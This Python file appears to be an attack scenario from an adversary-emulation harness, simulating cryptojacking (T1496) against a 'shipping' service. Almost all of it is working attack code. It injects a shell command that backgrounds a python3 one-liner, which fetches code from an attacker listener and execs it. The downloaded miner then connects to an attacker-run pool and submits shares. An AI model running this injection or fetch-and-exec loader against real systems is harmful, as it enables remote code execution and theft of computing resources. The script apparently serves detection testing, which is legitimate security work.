#!/usr/bin/python3 -B
"""A crypto miner: fetched through shipping's hole, works for a pool of the attacker's (T1496).

It mines for --pause seconds (8), and ends when the pool says so."""

import hashlib
import json
import time

from attack import Attack, until

BITS = 17
MINER = """
import hashlib, json, socket
pool = socket.create_connection(("%s", 3333))
lines = pool.makefile()
for line in lines:
    job = json.loads(line)
    if job["end"]:
        break
    nonce, found = -1, False
    while not found:
        nonce += 1
        digest = hashlib.sha256(f"{job['blob']}{nonce}".encode()).digest()
        found = int.from_bytes(digest, "big") >> (256 - job["bits"]) == 0
    pool.sendall(json.dumps({"nonce": nonce}).encode() + b"\\n")
"""


def run(attack: Attack) -> bool:
    shares, ended = [], []

    def serve_miner(connection):
        connection.makefile("r").readline()
        script = (MINER % attack.own).encode()
        connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + script)

    def pool(connection):
        lines = connection.makefile("r")
        end = time.monotonic() + (8 if attack.pause is None else attack.pause)
        while time.monotonic() < end or not shares:
            blob = hashlib.sha256(str(len(shares)).encode()).hexdigest()
            job = {"blob": blob, "bits": BITS, "end": False}
            connection.sendall(json.dumps(job).encode() + b"\n")
            nonce = json.loads(lines.readline())["nonce"]
            digest = hashlib.sha256(f"{blob}{nonce}".encode()).digest()
            shares.append(int.from_bytes(digest, "big") >> (256 - BITS) == 0)
        connection.sendall(b'{"end": true}\n')
        ended.append(True)

    with attack.listener(8081, serve_miner), attack.listener(3333, pool):
        fetch = f"import urllib.request as u; exec(u.urlopen('http://{attack.own}:8081/m').read())"
        attack.replicas["shipping"] = attack.shipping(
            f"hostname; cd /tmp; setsid python3 -c \"{fetch}\" </dev/null >/dev/null 2>&1 &")
        until(lambda: ended, 60)
    return attack.prove(bool(ended) and all(shares), shares=len(shares))


Attack("T1496", ["edge", "orders", "shipping"],
       ["attacker:8081", "attacker:3333", "processor"]).main(run)
